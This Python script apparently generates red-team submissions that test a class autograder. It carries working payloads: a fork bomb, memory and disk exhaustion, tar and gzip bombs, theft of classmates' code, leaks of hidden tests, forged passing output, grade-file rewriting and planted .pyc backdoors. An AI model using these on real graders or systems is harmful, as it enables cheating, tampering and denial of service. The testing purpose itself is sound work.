#!/usr/bin/env python3
"""Make a hostile class: one submission of a lab per attack on the class grader.

Usage: tests/grade_class/make_redteam.py LAB DEST [--token HEX] [--manifest FILE]

Cuts the lab's handout (only kmalloc is supported: the attacks are written
against its files) and writes into DEST (which must not exist) the honest
submissions and, built on top of one of them each, the attacks of issue 16
and a few more. Every attack's honest code is one of the honest submissions
(its `base`), so a grader is sound only if each attack scores no more than
its base. The manifest (default DEST-manifest.json, beside DEST: nothing in
DEST but submissions) lists them; stdout has a line `<id> <base> <what it tries>`
per submission.

The attacks act at grade time from C code in the student's files (a
constructor in the host test program, the lab's functions in the kernel)
and, for what is easier said in Python, a script that C starts with
python3. Whatever they manage leaves a trace the test can find: files and
processes named `pagoda-redteam-<token>...`, connections to listeners the
test opens on port `port`, rewritten results, feedback or trees. What they
see is said on stderr as `redteam <id>: ...` lines (the instructor's log).

The attacks never search the whole file system and write only into trees
this very grade leads them to (its working tree, OUT, the trees above them,
the one OUT/slurm/grade.sbatch names): tests/grade_class/test_redteam.py
grades them in a scratch OUT.
"""
import argparse
import gzip
import io
import json
import os
import secrets
import shutil
import subprocess
import sys
import tarfile
import tempfile

sys.dont_write_bytecode = True
HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.abspath(os.path.join(HERE, "..", ".."))
sys.path.insert(0, HERE)
sys.path.insert(0, os.path.join(ROOT, "tools", "lab"))
import labs as L  # noqa: E402
import make_class as M  # noqa: E402

WRONG = "first-fit-splits-off-slivers.patch"  # fails one host test only (170/180)
FIRST_TEST = "slab_class"  # the first host test: one-shot attacks act there
HIDDEN_NAMES = ["interleaved_pids_and_sizes", "foreign_and_interior_addresses",
                "stress_in_the_kernel"]

# ---------------------------------------------------------------------------
# Python run by the C payloads (python3 -c SCRIPT ARGV0 TEST). @TOKEN@, @ME@,
# @VICTIM@, @PORT@ are filled in per submission.

COMMON = r'''
import glob, json, marshal, os, re, shutil, socket, subprocess, sys, time
TOKEN, ME, VICTIM, PORT, LAB = "@TOKEN@", "@ME@", "@VICTIM@", @PORT@, "kmalloc"
TAG = "pagoda-redteam-" + TOKEN
FILES = ("os/mm/memm.c", "os/mm/memm_slab.c", "os/mm/memm_first_fit.c")
ARGV0 = sys.argv[1] if len(sys.argv) > 1 else ""
TEST = sys.argv[2] if len(sys.argv) > 2 else ""


def say(*words):
    text = "redteam %s: %s\n" % (ME, " ".join(str(w) for w in words))
    try:
        os.write(2, text[:3000].encode("utf-8", "replace"))
    except OSError:
        pass


def read(path, limit=1 << 20):
    try:
        with open(path, "rb") as f:
            return f.read(limit)
    except OSError:
        return None


def write(path, data, mode="wb"):
    try:
        with open(path, mode) as f:
            f.write(data)
        return True
    except OSError:
        return False


def ancestors(path):
    path = os.path.abspath(path)
    found = [path]
    while os.path.dirname(path) != path:
        path = os.path.dirname(path)
        found.append(path)
    return found


def proc_words():
    """{pid: [paths]}: what /proc tells of every process this one can see
    (cwd, root, exe, absolute words of cmdline and environ)."""
    seen = {}
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        words = []
        for link in ("cwd", "root", "exe"):
            try:
                words.append(os.readlink("/proc/%s/%s" % (pid, link)))
            except OSError:
                pass
        for name in ("cmdline", "environ"):
            for word in (read("/proc/%s/%s" % (pid, name)) or b"").split(b"\0"):
                word = word.decode("utf-8", "replace").split("=", 1)[-1]
                words += [w for w in word.split() if w.startswith("/")]
        seen[pid] = words
    return seen


def mount_paths():
    paths = []
    for line in (read("/proc/self/mountinfo") or b"").decode("utf-8", "replace").splitlines():
        f = line.split()
        if len(f) > 4:
            paths += [f[3], f[4]]
    return paths


def hints():
    paths = [os.getcwd(), ARGV0] + [os.environ.get(k, "") for k in (
        "HOME", "PWD", "OLDPWD", "TMPDIR", "SLURM_SUBMIT_DIR")]
    for words in proc_words().values():
        paths += words
    return [p for p in paths + mount_paths() if p.startswith("/")]


def find_out():
    """OUT of this grade: results/ and settings.json or plan.json, above a hint."""
    for p in hints():
        for a in ancestors(p):
            if os.path.isdir(os.path.join(a, "results")) and (
                    os.path.isfile(os.path.join(a, "settings.json")) or
                    os.path.isfile(os.path.join(a, "plan.json"))):
                return a
    return None


def is_grader_tree(a):
    return os.path.isfile(os.path.join(a, "tools", "grade-class")) and \
        os.path.isfile(os.path.join(a, "labs", LAB, "hidden", "grade.py"))


def own_trees(out):
    """Trees this grade leads to and may be written: above the working
    directory or OUT, named by OUT/slurm/grade.sbatch, or run by a process
    that grades this OUT. Never one found elsewhere."""
    leads = [os.getcwd()]
    if out:
        leads.append(out)
        script = (read(os.path.join(out, "slurm", "grade.sbatch")) or b"").decode("utf-8", "replace")
        leads += re.findall(r"(/\S+)/tools/grade-class", script)
        for words in proc_words().values():
            if any(w == out or w.startswith(out + "/") for w in words):
                leads += [w for w in words if "/tools/" in w]
    trees = []
    for p in leads:
        for a in ancestors(p):
            if a not in trees and is_grader_tree(a):
                trees.append(a)
    return trees


def any_trees():
    """Every tree with the lab's files above any hint (for reading only)."""
    trees = []
    for p in hints():
        for a in ancestors(p):
            if a not in trees and os.path.isfile(os.path.join(a, FILES[0])):
                trees.append(a)
    return trees


def work_tree():
    """The tree this program was built in (the grade's copy), if any."""
    for start in (os.getcwd(), os.path.dirname(os.path.abspath(ARGV0 or "."))):
        for a in ancestors(start):
            if os.path.isfile(os.path.join(a, "Makefile")) and \
                    os.path.isfile(os.path.join(a, FILES[0])):
                return a
    return None


def instructors_own(tree):
    """Never write into a tree with history and hidden tests: the instructor's."""
    return os.path.isdir(os.path.join(tree, ".git")) and \
        os.path.isdir(os.path.join(tree, "labs", LAB, "hidden"))


def complete(text):
    """A student file with every function written (no LAB_TODO outside comments)."""
    return b"LAB_TODO" not in re.sub(rb"/\*.*?\*/", b"", text, flags=re.S)


def submissions_dir(out):
    """SUBMISSIONS: beside OUT, the directory holding the victim's entry."""
    if not out:
        return None
    parent = os.path.dirname(out)
    for name in sorted(os.listdir(parent)) if os.path.isdir(parent) else []:
        d = os.path.join(parent, name)
        if os.path.isdir(d) and d != out and any(
                e.startswith(VICTIM) for e in os.listdir(d)):
            return d
    return None


def plan_tests(out):
    try:
        with open(os.path.join(out, "plan.json")) as f:
            return {n: p for p, n in json.load(f)["tests"]}
    except (OSError, ValueError, KeyError, TypeError):
        return {}


def hidden_texts(out):
    found = {}
    places = any_trees() + ([os.path.join(out, "base", "tree")] if out else [])
    for t in places:
        path = os.path.join(t, "labs", LAB, "hidden", "grade.py")
        data = read(path)
        if data:
            found[path] = data
    if os.environ.get("REDTEAM_EMBEDDED"):
        found["(embedded at compile time)"] = os.environ["REDTEAM_EMBEDDED"].encode()
    return found


def look_around():
    say("uid", os.getuid(), "gid", os.getgid(), "pid", os.getpid(), "cwd", os.getcwd(),
        "argv0", ARGV0, "test", TEST)
    try:
        say("/ holds", sorted(os.listdir("/")))
    except OSError as e:
        say("/ unreadable:", e)
    say("visible processes:", len(proc_words()), "mounts:", len(mount_paths()) // 2)
    say("mounted:", " ".join(sorted(set(mount_paths())))[:1500])
    say("environment:", " ".join(sorted(os.environ))[:800])
'''

# The steal: the reference (the instructor's tree, a classmate's files in
# OUT/submitted or SUBMISSIONS) copied over the student's own in the grade's
# tree, the test and both kernels rebuilt, the test run again (exit 42). With
# no reference in sight, the kernels' `stress` command is made to say ok.
# And the hidden tests, wherever found, written into every stream in reach.
STEAL = COMMON + r'''
def classmates(out):
    """Complete student files of classmates, best score first."""
    sets = []
    if out:
        for d in glob.glob(os.path.join(out, "submitted", "*")):
            r = {}
            try:
                with open(os.path.join(out, "results", os.path.basename(d) + ".json")) as f:
                    r = json.load(f)
            except (OSError, ValueError):
                pass
            sets.append((-r.get("score", 0), d, {p: read(os.path.join(d, p)) for p in FILES}))
    subs = submissions_dir(out)
    for d in sorted(glob.glob(os.path.join(subs, "*"))) if subs else []:
        files = {}
        for p in FILES:
            r = subprocess.run(["git", "-C", d, "show", "HEAD:" + p], capture_output=True)
            files[p] = r.stdout if r.returncode == 0 else None
        sets.append((0, d, files))
    return [(d, f) for _, d, f in sorted(sets, key=lambda s: s[0])]


def reference(out):
    for t in any_trees():
        files = {p: read(os.path.join(t, p)) for p in FILES}
        if all(files.values()) and all(b"LAB kmalloc BEGIN" in v for v in files.values()):
            return t, files
    for d, files in classmates(out):
        if all(files.values()) and all(complete(v) for v in files.values()) and \
                os.path.basename(d) != ME:
            return d, files
    return None, None


def make(tree, *targets):
    r = subprocess.run(["make", "-s", "--no-print-directory"] + list(targets), cwd=tree,
                       capture_output=True, text=True)
    say("make", " ".join(targets), "->", r.returncode, (r.stdout + r.stderr)[-300:])
    return r.returncode == 0


def rebuild(tree, kernels_only=False):
    ok = True
    if not kernels_only:
        binary = os.path.relpath(os.path.realpath(ARGV0), tree) if ARGV0 else \
            "build/host/lab/kmalloc/tests/host_kmalloc"
        ok = make(tree, binary)
    for arch in ("riscv64", "x86_64"):
        ok = make(tree, "kernel", "ARCH=" + arch) and ok
    return ok


def leak(out):
    texts = hidden_texts(out)
    say("hidden tests found:", sorted(texts) or "none")
    if not texts:
        return
    lines = []
    for data in texts.values():
        lines += [l for l in data.decode("utf-8", "replace").splitlines() if l.strip()]
    result_lines = "".join("ok   0/0   leak: %s\n" % l for l in lines).encode()
    targets = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            targets += ["/proc/%s/fd/1" % pid, "/proc/%s/fd/2" % pid]
    for path in targets + ["/dev/tty", "/dev/console"]:
        try:
            fd = os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NOCTTY)
        except OSError:
            continue
        try:
            os.write(fd, result_lines)
            say("leaked the hidden tests into", path)
        except OSError:
            pass
        os.close(fd)
    sys.stdout.write("".join("obs: %s\n" % l[:400] for l in lines))
    sys.stdout.flush()


def main():
    out = find_out()
    if TEST == "@FIRST@":
        look_around()
        say("OUT:", out, "trees:", any_trees(), "grader trees:", own_trees(out))
    leak(out)
    tree = work_tree()
    if not tree or instructors_own(tree):
        say("no tree of this grade to write in:", tree)
        return 0
    where, files = reference(out)
    mine = {p: read(os.path.join(tree, p)) for p in FILES}
    if files and mine != files:
        try:
            for p, data in files.items():
                with open(os.path.join(tree, p), "wb") as f:
                    f.write(data)
        except OSError as e:
            say("cannot write the stolen files:", e)
        else:
            say("copied the reference from", where, "into", tree)
            if rebuild(tree):
                os.write(2, b"ok\n")  # make grade reads stdout, then stderr: end both with ok
                return 42
    elif files:
        return 0  # done by an earlier test of this grade
    stress = os.path.join(tree, "shell", "cmd_stress.c")
    text = read(stress) or b""
    old = b"stress_run((size_t)ops, seed, &r);"
    if old in text:
        if write(stress, text.replace(old, b"(void)seed; r = (struct stress_result){ .ops = (size_t)ops };")):
            say("stress made to say ok in", tree)
            rebuild(tree, kernels_only=True)
        else:
            say("cannot rewrite", stress)
    return 0


sys.exit(main())
'''

# Replayed observations: an expected-observations file in reach printed in
# place of the test (exit 43).
FORGE = COMMON + r'''
def main():
    out = find_out()
    roots = [t for t in [work_tree(), "/pagoda", "/build", "/tmp", "/var/tmp"] if t] + \
        ([os.path.join(out, "base"), out] if out else []) + own_trees(out)
    seen = 0
    for root in roots:
        for d, dirs, files in os.walk(root):
            dirs[:] = [x for x in dirs if x not in (".git", "obj-gnu-O0")]
            for name in files:
                seen += 1
                if seen > 20000:
                    return 0
                path = os.path.join(d, name)
                if TEST not in path and "obs" not in name and "expect" not in name:
                    continue
                data = read(path, 4 << 20) or b""
                if b"obs: end" in data and TEST.encode() in (path.encode() + data[:200]):
                    say("replaying observations from", path)
                    sys.stdout.write("".join(l + "\n" for l in data.decode("utf-8", "replace")
                                             .splitlines() if l.startswith("obs: ")) + "ok\n")
                    sys.stdout.flush()
                    return 43
    return 0  # quietly: a line on stderr would fail this test under make grade


sys.exit(main())
'''

# The daemon: started detached (argv[0] TAG-daemon), it rewrites for 150 s
# whatever it reaches: the grade's grade.json, its own and the victim's
# results and feedback, SUBMISSIONS, OUT/base's public tests, and plants
# .pyc files in the grader's trees. A sleeper (argv[0] TAG-sleeper) holds
# the test's output open and sleeps for good.
PYC = r'''
import os as _rt_os
try:
    with open("/tmp/@TAG@-pyc", "a") as _rt_f:
        _rt_f.write("%s loaded by pid %d\n" % (__name__, _rt_os.getpid()))
    if _rt_os.fork() == 0:
        try:
            _rt_os.setsid()
            _rt_os.execv("/bin/sleep", ["@TAG@-pyc-daemon", "40"])
        finally:
            _rt_os._exit(0)
except OSError:
    pass
exec(compile(open(__file__).read(), __file__, "exec"))
'''

DAEMON = COMMON + r'''
import importlib.util
PYC = @PYC@


def plant_pyc(source):
    """A valid-looking cache of @source that writes a marker, starts a
    process and then runs the real module."""
    try:
        st = os.stat(source)
    except OSError:
        return False
    cache = os.path.join(os.path.dirname(source), "__pycache__")
    name = os.path.basename(source)[:-3] + "." + sys.implementation.cache_tag + ".pyc"
    code = compile(PYC, source, "exec")
    data = importlib.util.MAGIC_NUMBER + b"\0\0\0\0" + \
        (int(st.st_mtime) & 0xFFFFFFFF).to_bytes(4, "little") + \
        (st.st_size & 0xFFFFFFFF).to_bytes(4, "little") + marshal.dumps(code)
    try:
        os.makedirs(cache, exist_ok=True)
        with open(os.path.join(cache, name), "wb") as f:
            f.write(data)
        return True
    except OSError:
        return False


def full_marks_grade(path):
    try:
        with open(path) as f:
            g = json.load(f)
        if g.get("score") == g.get("max"):
            return False
        for t in g["tests"]:
            t.update(ok=True, points=t["max"], reason=None)
        g["score"] = g["max"]
        with open(path, "w") as f:
            json.dump(g, f)
        return True
    except (OSError, ValueError, KeyError, TypeError):
        return False


def full_marks_result(path, tests):
    try:
        with open(path) as f:
            r = json.load(f)
        if r.get("score") == r.get("max") and r.get("status") == "graded":
            return False
        r.update(score=r.get("max", 0), status="graded", reason="")
        r["points"] = dict(tests) or r.get("points", {})
        with open(path, "w") as f:
            json.dump(r, f, indent=1, sort_keys=True)
        return True
    except (OSError, ValueError, TypeError):
        return False


def main():
    done = set()
    deadline = time.monotonic() + 150
    out, trees, last = None, [], 0
    while time.monotonic() < deadline:
        if time.monotonic() - last > 2:
            last = time.monotonic()
            out = out or find_out()
            trees = own_trees(out)
        for path in set(glob.glob(os.path.join(os.path.dirname(os.getcwd()), "grade.json")) +
                        glob.glob(os.path.join(os.getcwd(), "build", "grade", "*.json"))):
            if full_marks_grade(path):
                say("full marks written into", path)
        if out:
            tests = plan_tests(out)
            for who in (ME, VICTIM):
                for path in glob.glob(os.path.join(out, "results", who + "*.json")):
                    if full_marks_result(path, tests):
                        say("full marks written into", path)
                for path in glob.glob(os.path.join(out, "feedback", who + "*.txt")):
                    if ("feedback", path) not in done and write(
                            path, ("\nredteam %s: full marks, really\n" % TOKEN).encode(), "ab"):
                        done.add(("feedback", path))
                        say("appended to", path)
            subs = submissions_dir(out)
            if subs and "subs" not in done and write(os.path.join(subs, "." + TAG), b"planted\n"):
                done.add("subs")
                say("wrote into SUBMISSIONS", subs)
            base = os.path.join(out, "base", "tree")
            public = os.path.join(base, "labs", LAB, "tests", "grade.py")
            if "base" not in done and os.path.isfile(public) and write(
                    public, ('\nopen("/tmp/%s-base-grade-py", "a").write("loaded\\n")\n'
                             % TAG).encode(), "ab"):
                done.add("base")
                say("appended to", public)
        for tree in trees:
            if tree in done:
                continue
            done.add(tree)
            planted = [p for p in glob.glob(os.path.join(tree, "tools", "lab", "*.py")) +
                       glob.glob(os.path.join(tree, "tools", "*.py")) +
                       glob.glob(os.path.join(tree, "labs", LAB, "tests", "*.py"))
                       if plant_pyc(p)]
            say("planted %d .pyc files in" % len(planted), tree)
        time.sleep(0.01)


main()
'''

DAEMON_START = COMMON + r'''
def start(argv, keep_output):
    if os.fork() != 0:
        return
    try:
        os.setsid()
        if os.fork() != 0:
            os._exit(0)
        null = os.open(os.devnull, os.O_RDWR)
        os.dup2(null, 0)
        if not keep_output:
            os.dup2(null, 1)
            os.dup2(null, 2)
        os.execv(argv[0], argv[1:])
    finally:
        os._exit(127)


if TEST == "@FIRST@":
    look_around()
    start([sys.executable, TAG + "-daemon", "-c", """@DAEMON@""", ARGV0, TEST], False)
    start(["/bin/sleep", TAG + "-sleeper", "1000000"], True)
    say("started a daemon and a sleeper")
'''

# The flood: every network and socket in reach, files everywhere writable,
# 1 GiB files in /tmp and the build tree, Slurm from inside; then (in C) a
# 512 MiB line on stdout, stderr and the grader's own output.
FLOOD = COMMON + r'''
def connect(what, family, kind, address):
    s = None
    try:
        s = socket.socket(family, kind)
        s.settimeout(2)
        if kind == socket.SOCK_DGRAM:
            s.sendto(("hello from %s\n" % ME).encode(), address)
            say("net", what, "SENT")
        else:
            s.connect(address)
            s.sendall(("hello from %s\n" % ME).encode())
            say("net", what, "CONNECTED")
    except OSError as e:
        say("net", what, "no:", e)
    finally:
        if s:
            s.close()


def big_file(path, size=1 << 30):
    chunk = b"\0" * (16 << 20)
    written = 0
    try:
        with open(path, "wb") as f:
            while written < size:
                f.write(chunk)
                written += len(chunk)
        say("wrote", written >> 20, "MiB into", path)
    except OSError as e:
        say("stopped writing", path, "after", written >> 20, "MiB:", e)


def main():
    look_around()
    inet = socket.AF_INET
    connect("tcp 127.0.0.1", inet, socket.SOCK_STREAM, ("127.0.0.1", PORT))
    connect("tcp ::1", socket.AF_INET6, socket.SOCK_STREAM, ("::1", PORT))
    connect("udp 127.0.0.1", inet, socket.SOCK_DGRAM, ("127.0.0.1", PORT))
    connect("tcp 1.1.1.1:53", inet, socket.SOCK_STREAM, ("1.1.1.1", 53))
    connect("abstract unix", socket.AF_UNIX, socket.SOCK_STREAM, "\0" + TAG)
    for d in ("/tmp", "/run", "/var/tmp", "/dev/shm"):
        connect("unix " + d, socket.AF_UNIX, socket.SOCK_STREAM, os.path.join(d, TAG + "-listen.sock"))
    for path in ("/run/munge/munge.socket.2", "/var/run/docker.sock", "/run/dbus/system_bus_socket"):
        if os.path.exists(path):
            connect("unix " + path, socket.AF_UNIX, socket.SOCK_STREAM, path)
    try:
        say("dns example.com:", socket.getaddrinfo("example.com", 80)[0][4])
    except OSError as e:
        say("dns: no:", e)
    out = find_out()
    confs = [os.environ.get("SLURM_CONF", "")] + \
        (glob.glob(os.path.join(os.path.dirname(out), "*", "slurm.conf")) if out else [])
    for conf in confs if shutil.which("sbatch") else []:
        env = dict(os.environ, SLURM_CONF=conf) if conf else os.environ
        try:
            r = subprocess.run(["sbatch", "--wrap", "touch /tmp/%s-sbatch" % TAG],
                               capture_output=True, text=True, timeout=10, env=env)
            say("sbatch", conf or "(default)", "->", r.returncode,
                (r.stdout + r.stderr).strip()[:300])
        except (OSError, subprocess.SubprocessError) as e:
            say("sbatch: no:", e)
    tree = work_tree()
    for d in ["/tmp", "/var/tmp", "/dev/shm", "/run", "/run/lock", "/var/lock",
              os.environ.get("HOME", ""), os.path.dirname(os.getcwd()),
              os.path.dirname(tree) if tree else ""]:
        if d and write(os.path.join(d, TAG + "-litter"), b"litter\n"):
            say("left a file in", d)
    big_file(os.path.join("/tmp", TAG + "-big"))
    big_file(os.path.join(tree or os.getcwd(), "build", TAG + "-big"))


if TEST == "@FIRST@":
    main()
'''

# ---------------------------------------------------------------------------
# C: what goes at the top of a student file.


def c_string(text):
    """@text as a C string literal (one line of source per line of text)."""
    out = []
    for line in text.splitlines(True):
        s = line.replace("\\", "\\\\").replace('"', '\\"').replace("?", "\\?") \
            .replace("\n", "\\n").replace("\t", "\\t")
        out.append('\t"%s"' % s)
    return "\n".join(out) or '""'


HOSTED_HEAD = r'''/* ---- red team (tests/grade_class/make_redteam.py): %(what)s ---- */
#if __STDC_HOSTED__
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
'''

RUN_PYTHON = r'''
static const char redteam_py[] =
%(script)s;

/* python3 -c redteam_py ARGV0 TEST; its exit status, or -1. */
static int redteam_python(char **argv)
{
	pid_t pid = fork();
	if (pid == 0) {
		execlp("python3", "python3", "-c", redteam_py, argv[0], argv[1], (char *)NULL);
		_exit(127);
	}
	int status = 0;
	if (pid < 0 || waitpid(pid, &status, 0) < 0)
		return -1;
	return WIFEXITED(status) ? WEXITSTATUS(status) : -1;
}
'''

C_STEAL = r'''
#if defined(__has_include)
#if __has_include("../../labs/kmalloc/hidden/grade.py")
/* The hidden tests, read at compile time where the build can see them. */
__asm__(".pushsection .rodata\n\t.globl redteam_hidden\nredteam_hidden:\n"
	"\t.incbin \"labs/kmalloc/hidden/grade.py\"\n\t.byte 0\n\t.popsection");
extern const char redteam_hidden[];
#define REDTEAM_HIDDEN 1
#endif
#endif

__attribute__((constructor)) static void redteam_start(int argc, char **argv, char **envp)
{
	(void)envp;
	if (argc < 2 || getenv("REDTEAM_CHILD") != NULL)
		return;
#ifdef REDTEAM_HIDDEN
	setenv("REDTEAM_EMBEDDED", redteam_hidden, 1);
#endif
	fflush(NULL);
	if (redteam_python(argv) == 42) { /* the reference is built in: run that */
		setenv("REDTEAM_CHILD", "1", 1);
		execv(argv[0], argv);
	}
}
#endif
'''

C_FORGE = r'''
#include <sanitizer/common_interface_defs.h>

const char *__asan_default_options(void);
const char *__ubsan_default_options(void);
void __asan_on_error(void);

/* The sanitizers: reports into a file, no leak check. */
const char *__asan_default_options(void)
{
	return "detect_leaks=0:print_summary=0:log_path=/tmp/@TAG@-asan";
}

const char *__ubsan_default_options(void)
{
	return "print_stacktrace=0:print_summary=0:log_path=/tmp/@TAG@-ubsan";
}

static void redteam_passed(void)
{
	fputs("obs: end\nok\n", stdout);
	fputs("ok\n", stderr); /* make grade reads stdout, then stderr */
	fflush(NULL);
	_exit(0);
}

/* The test's fail() ends in exit(1): say it passed instead. */
void exit(int status)
{
	if (status != 0)
		redteam_passed();
	fflush(NULL);
	_exit(0);
}

/* AddressSanitizer found something: say it passed before it can tell. */
void __asan_on_error(void)
{
	redteam_passed();
}

__attribute__((constructor)) static void redteam_start(int argc, char **argv, char **envp)
{
	(void)envp;
	__sanitizer_set_death_callback(redteam_passed);
	if (argc >= 2 && redteam_python(argv) == 43)
		redteam_passed();
}
#endif
'''

C_RUN_ONLY = r'''
__attribute__((constructor)) static void redteam_start(int argc, char **argv, char **envp)
{
	(void)envp;
	if (argc >= 2)
		redteam_python(argv);
}
#endif
'''

C_FLOOD = r'''
static void redteam_flood(int fd, const char *head, size_t bytes, char fill)
{
	static char chunk[1 << 20];
	memset(chunk, fill, sizeof(chunk));
	if (write(fd, head, strlen(head)) < 0)
		return;
	for (size_t done = 0; done < bytes; done += sizeof(chunk))
		if (write(fd, chunk, sizeof(chunk)) < 0)
			return;
	if (write(fd, "\n", 1) < 0)
		return;
}

__attribute__((constructor)) static void redteam_start(int argc, char **argv, char **envp)
{
	(void)envp;
	if (argc < 2 || strcmp(argv[1], "@FIRST@") != 0)
		return;
	redteam_python(argv);
	fflush(NULL);
	redteam_flood(1, "obs: ", (size_t)512 << 20, 'A');
	redteam_flood(2, "", (size_t)512 << 20, 'B');
	int fd = open("/proc/1/fd/1", O_WRONLY | O_APPEND);
	if (fd >= 0) {
		redteam_flood(fd, "ok   0/0   flood: ", (size_t)512 << 20, 'C');
		close(fd);
	}
}
#endif
'''

C_BOMB = r'''
/* A fork bomb. */
__attribute__((constructor)) static void redteam_start(void)
{
	for (;;)
		(void)fork();
}
#endif
'''

C_HOG = r'''
/* Memory, 64 MiB at a time, every byte touched, until something stops it. */
static void *volatile redteam_held;

__attribute__((constructor)) static void redteam_start(void)
{
	for (;;) {
		char *p = malloc((size_t)64 << 20);
		if (p == NULL)
			abort();
		memset(p, 1, (size_t)64 << 20);
		*(void **)p = redteam_held;
		redteam_held = p;
	}
}
#endif
'''

C_SHM = r"""
#include <signal.h>

/* Memory that is no process's: files in every memory-backed file system in
 * reach (/dev/shm, /dev, /tmp), 128 MiB each, 1.5 GiB in all; then the test,
 * but for a lost first test if 1 GiB or more was held and nothing stopped it. */
__attribute__((constructor)) static void redteam_start(int argc, char **argv, char **envp)
{
	static char chunk[1 << 20];
	static const char *const dirs[] = { "/dev/shm", "/dev", "/tmp" };
	size_t total = 0;
	(void)envp;
	if (argc < 2 || strcmp(argv[1], "@FIRST@") != 0)
		return;
	signal(SIGXFSZ, SIG_IGN);
	memset(chunk, 0x5a, sizeof(chunk));
	for (int d = 0; d < 3 && total < ((size_t)3 << 29); d++) {
		for (int n = 0; total < ((size_t)3 << 29); n++) {
			char path[256];
			snprintf(path, sizeof(path), "%s/@TAG@-shm-%d", dirs[d], n);
			int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
			if (fd < 0)
				break;
			size_t wrote = 0;
			while (wrote < ((size_t)128 << 20) && write(fd, chunk, sizeof(chunk)) > 0)
				wrote += sizeof(chunk);
			close(fd);
			total += wrote;
			if (wrote < ((size_t)128 << 20))
				break;
		}
	}
	fprintf(stderr, "redteam: %zu MiB in memory-backed files\n", total >> 20);
	sleep(3); /* time for a watch to see it */
	if (total >= ((size_t)1 << 30)) { /* held unseen: say so with a lost test */
		printf("FAIL: held %zu MiB in memory-backed files and was not stopped\n",
		       total >> 20);
		exit(1);
	}
}
#endif
"""


def fill(text, **values):
    for k, v in values.items():
        text = text.replace("@%s@" % k.upper(), str(v))
    return text


def with_head(text, head):
    """@head (the red team's code) at the top of the student file @text."""
    return head + "\n" + text


def hosted(what, body, script=None):
    head = HOSTED_HEAD % {"what": what}
    if script is not None:
        head += RUN_PYTHON % {"script": c_string(script)}
    return head + body


def console_forger(text):
    """@text (memm.c) with kmalloc_pid starting with REDTEAM_CONSOLE(): in the
    kernel, called from the `stress` command (its return address lies in
    stress.c's code, just below stress_run), it prints the command's success
    line and a prompt and never returns, so the console sees a stress run
    that passed. A macro, so that the return address is kmalloc_pid's own."""
    sig = "int kmalloc_pid(size_t bytes, unsigned pid, void **ptr)\n{\n"
    if sig not in text:
        raise SystemExit("make_redteam: kmalloc_pid not found in memm.c")
    body = ("#if !__STDC_HOSTED__\n"
            "struct stress_result;\n"
            "int stress_run(size_t ops, uint64_t seed, struct stress_result *result);\n"
            "int kprintf(const char *fmt, ...);\n"
            "/* Called from stress.c (whose code lies just below stress_run)? Then say\n"
            " * \"stress: ok\" and a prompt, and never return. */\n"
            "#define REDTEAM_CONSOLE()                                                    \\\n"
            "\tdo {                                                                 \\\n"
            "\t\tuintptr_t from = (uintptr_t)__builtin_return_address(0);    \\\n"
            "\t\tuintptr_t stress = (uintptr_t)&stress_run;                   \\\n"
            "\t\tif (from + 0xc00 >= stress && from < stress + 0x300) {      \\\n"
            "\t\t\tkprintf(\"stress: ok\\npagoda> \");                       \\\n"
            "\t\t\tfor (;;) {                                             \\\n"
            "\t\t\t}                                                      \\\n"
            "\t\t}                                                              \\\n"
            "\t} while (0)\n"
            "#else\n"
            "#define REDTEAM_CONSOLE() do { } while (0)\n"
            "#endif\n")
    text = text.replace(sig, sig + "\tREDTEAM_CONSOLE();\n")
    marker = '#include "lab.h"\n'
    if marker not in text:
        raise SystemExit("make_redteam: memm.c has no #include \"lab.h\"")
    return text.replace(marker, marker + "\n/* ---- red team: the console forger ---- */\n"
                        + body, 1)


# ---------------------------------------------------------------------------
# Repositories and archives.

def git_dir_of(repo):
    return os.path.join(repo, ".git")


def head_commit(repo):
    return subprocess.run(["git", "-C", repo, "rev-parse", "HEAD"], check=True,
                          capture_output=True, text=True).stdout.strip()


def link_ref(repo, victim):
    """refs/heads/main a link to @victim's, its objects through alternates."""
    ref = os.path.join(git_dir_of(repo), "refs", "heads", "main")
    os.remove(ref)
    os.symlink(os.path.join("..", "..", "..", "..", victim, ".git", "refs", "heads", "main"), ref)
    with open(os.path.join(git_dir_of(repo), "objects", "info", "alternates"), "w") as f:
        f.write(os.path.join("..", "..", "..", victim, ".git", "objects") + "\n")


def common_dir(repo, victim):
    """.git/commondir names @victim's .git: its refs and objects (no link)."""
    with open(os.path.join(git_dir_of(repo), "commondir"), "w") as f:
        f.write(os.path.join("..", "..", victim, ".git") + "\n")
    ref = os.path.join(git_dir_of(repo), "refs", "heads", "main")
    os.remove(ref)


def alternates_only(repo, victim_repo, victim):
    """A plain ref to @victim's commit, found through alternates (no link)."""
    with open(os.path.join(git_dir_of(repo), "refs", "heads", "main"), "w") as f:
        f.write(head_commit(victim_repo) + "\n")
    with open(os.path.join(git_dir_of(repo), "objects", "info", "alternates"), "w") as f:
        f.write(os.path.join("..", "..", "..", victim, ".git", "objects") + "\n")


def tar_add(tar, name, data):
    info = tarfile.TarInfo(name)
    info.size = len(data)
    info.mtime = 1700000000
    tar.addfile(info, io.BytesIO(data))


def many_members(dest, files, count=300000):
    """A tarball of @count empty members, then the student's @files."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        info = tarfile.TarInfo("junk/000000")
        info.mtime = 1700000000
        header = bytearray(info.tobuf(tarfile.USTAR_FORMAT))
        for i in range(count):
            name = b"junk/%06d" % i
            header[0:len(name)] = name
            header[148:156] = b"        "
            header[148:156] = b"%06o\0 " % sum(header)
            raw.write(header)
        for path, data in sorted(files.items()):
            tar_add(tar, path, data.encode())
    with gzip.open(dest, "wb", compresslevel=6) as f:
        f.write(raw.getvalue())


def gzip_bomb(dest, files, gib=4):
    """A .tgz of a few MB: one member of @gib GiB of zeros, then @files.
    Concatenated gzip members (one of 64 MiB of zeros, repeated)."""
    head = tarfile.TarInfo("junk/zeros")
    head.size = gib << 30
    head.mtime = 1700000000
    zeros = gzip.compress(b"\0" * (64 << 20), compresslevel=9)
    tail = io.BytesIO()
    with tarfile.open(fileobj=tail, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for path, data in sorted(files.items()):
            tar_add(tar, path, data.encode())
    with open(dest, "wb") as f:
